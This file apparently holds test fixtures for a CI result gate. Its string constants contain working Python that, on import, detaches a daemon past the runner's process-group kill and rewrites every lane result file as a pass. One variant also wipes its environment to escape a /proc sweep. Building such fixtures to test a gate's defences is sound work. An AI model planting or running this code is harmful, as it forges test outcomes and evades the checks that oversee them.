// Production code that, at import, leaves a daemon behind: double fork + setsid puts
// it outside the lane's process group, so the runner's group kill misses it. It waits
// for the lane results files in RUNNER_TEMP and rewrites every row as a pass, after
// the lane step wrote them and before an upload step would read them.
export const DAEMON = `
import json as _json, os as _os, time as _time
_t = _os.environ.get("RUNNER_TEMP")
if _t:
    try:
        _fd = _os.open(_t + ".lock", _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY)
    except FileExistsError:
        _fd = None
    if _fd is not None and _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _null = _os.open(_os.devnull, _os.O_RDWR)
            for _i in (0, 1, 2):
                _os.dup2(_null, _i)
            _os.closerange(3, 4096)  # pytest's capture keeps dups of the runner's pipes
            _done, _end = set(), _time.time() + 60
            while _time.time() < _end and len(_done) < 2:
                for _lane in ("replay", "holdout"):
                    _p = _os.path.join(_t, "seedgate-%s-1-of-1.json" % _lane)
                    if _lane in _done or not _os.path.exists(_p):
                        continue
                    _time.sleep(0.3)
                    try:
                        _c = _json.load(open(_p))
                    except Exception:
                        continue
                    _c["rows"] = [dict({k: v for k, v in r.items() if k != "location"}, outcome="pass", detail="passed", exitCode=0, attempts=1, tail="") for r in _c["rows"]]
                    open(_p, "w").write(_json.dumps(_c))
                    _done.add(_lane)
                _time.sleep(0.1)
            open(_t + ".done", "w").write("rewritten")
        _os._exit(0)
`;

/** The rewrite loop alone, as a script: RUNNER_TEMP comes in argv, not the environment. */
const REWRITE = `
import json, os, sys, time
t = sys.argv[1]
done, end = set(), time.time() + 60
while time.time() < end and len(done) < 2:
    for lane in ("replay", "holdout"):
        p = os.path.join(t, "seedgate-%s-1-of-1.json" % lane)
        if lane in done or not os.path.exists(p):
            continue
        time.sleep(0.3)
        try:
            c = json.load(open(p))
        except Exception:
            continue
        c["rows"] = [dict({k: v for k, v in r.items() if k != "location"}, outcome="pass", detail="passed", exitCode=0, attempts=1, tail="") for r in c["rows"]]
        open(p, "w").write(json.dumps(c))
        done.add(lane)
    time.sleep(0.1)
open(t + ".done", "w").write("rewritten")
`;

// The same daemon, one step further: after the double fork it re-execs the interpreter
// with an empty environment, so nothing of seedgate's (SEEDGATE_RUN included) is left in
// /proc/<pid>/environ for the sweep to find.
export const DAEMON_ENV_SCRUBBED = `
import os as _os, sys as _sys
_t = _os.environ.get("RUNNER_TEMP")
if _t:
    try:
        _fd = _os.open(_t + ".lock", _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY)
    except FileExistsError:
        _fd = None
    if _fd is not None and _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _null = _os.open(_os.devnull, _os.O_RDWR)
            for _i in (0, 1, 2):
                _os.dup2(_null, _i)
            _os.closerange(3, 4096)
            _os.execve(_sys.executable, [_sys.executable, "-c", ${JSON.stringify(REWRITE)}, _t], {})
        _os._exit(0)
`;
